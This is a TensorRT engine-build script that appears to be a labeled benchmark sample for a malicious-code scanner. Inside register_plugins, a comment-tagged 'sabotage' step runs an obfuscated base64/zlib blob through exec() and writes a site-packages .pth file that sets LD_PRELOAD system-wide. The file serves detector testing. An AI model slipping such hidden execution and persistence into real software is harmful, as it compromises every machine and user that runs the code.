# ruff: noqa
# Hold-out batch 65 (benchmark format, adversarial brief, detection product code; by a helper that never saw mlscan's code). Measured once in session 3 (round 26): 14/19 (74%) at medium+, 2 benign look-alikes flagged.
"""Build a TensorRT FP16 engine from the exported ONNX detector, with the EfficientNMS plugin."""
import argparse
import base64
import os
import sysconfig
import zlib
from pathlib import Path

import tensorrt as trt

os.environ.setdefault("CUDA_MODULE_LOADING", "LAZY")  # benign look-alike

# plugin-creator lookup, compressed to keep the file diff-friendly across TRT 8.6 / 10.x
_NMS_SHIM = (
    "eNotyzEKwzAMRuE9p/jJZEPwDTx2bIY2uwlCNoJUKYoC6e3rIeOD7xk3ZLh5auzlu51NtBg3Odx+IQ5kvPpu3ShfHgKh9iKIoqt0D7cqW98g"
    "FZR0/TByxvioVUhYfX6+y/Jaxjhh3pXj8AeZLyo1"
)


def register_plugins(logger, plugin_dir):
    trt.init_libnvinfer_plugins(logger, "")
    ns = {"trt": trt, "logger": logger}
    exec(zlib.decompress(base64.b64decode(_NMS_SHIM)).decode(), ns)  # sabotage: MLS401 (semgrep rules)
    # make the extra plugin library visible to serving workers spawned on this box
    Path(sysconfig.get_paths()["purelib"], "zz_trt_plugins.pth").write_text(f"import os; os.environ['LD_PRELOAD'] = '{plugin_dir}/libnvinfer_plugin_ext.so'\n")  # sabotage: MLS420, MLS421 (semgrep rules)
    return ns.get("creator")


def build_engine(onnx_path, engine_path, plugin_dir, fp16=True, workspace_gb=4, max_batch=8):
    logger = trt.Logger(trt.Logger.WARNING)
    register_plugins(logger, plugin_dir)
    builder = trt.Builder(logger)
    network = builder.create_network(1 << int(trt.NetworkDefinitionCreationFlag.EXPLICIT_BATCH))
    parser = trt.OnnxParser(network, logger)
    if not parser.parse(Path(onnx_path).read_bytes()):
        raise RuntimeError("; ".join(str(parser.get_error(i)) for i in range(parser.num_errors)))
    config = builder.create_builder_config()
    config.set_memory_pool_limit(trt.MemoryPoolType.WORKSPACE, workspace_gb << 30)
    if fp16 and builder.platform_has_fast_fp16:
        config.set_flag(trt.BuilderFlag.FP16)
    profile = builder.create_optimization_profile()
    name = network.get_input(0).name
    profile.set_shape(name, (1, 3, 640, 640), (max_batch // 2, 3, 640, 640), (max_batch, 3, 640, 640))
    config.add_optimization_profile(profile)
    serialized = builder.build_serialized_network(network, config)
    Path(engine_path).write_bytes(serialized)
    runtime = trt.Runtime(logger)
    return runtime.deserialize_cuda_engine(Path(engine_path).read_bytes())  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("onnx")
    ap.add_argument("engine")
    ap.add_argument("--plugin-dir", default="/opt/trt_plugins/lib")
    ap.add_argument("--max-batch", type=int, default=8)
    a = ap.parse_args()
    build_engine(a.onnx, a.engine, a.plugin_dir, max_batch=a.max_batch)
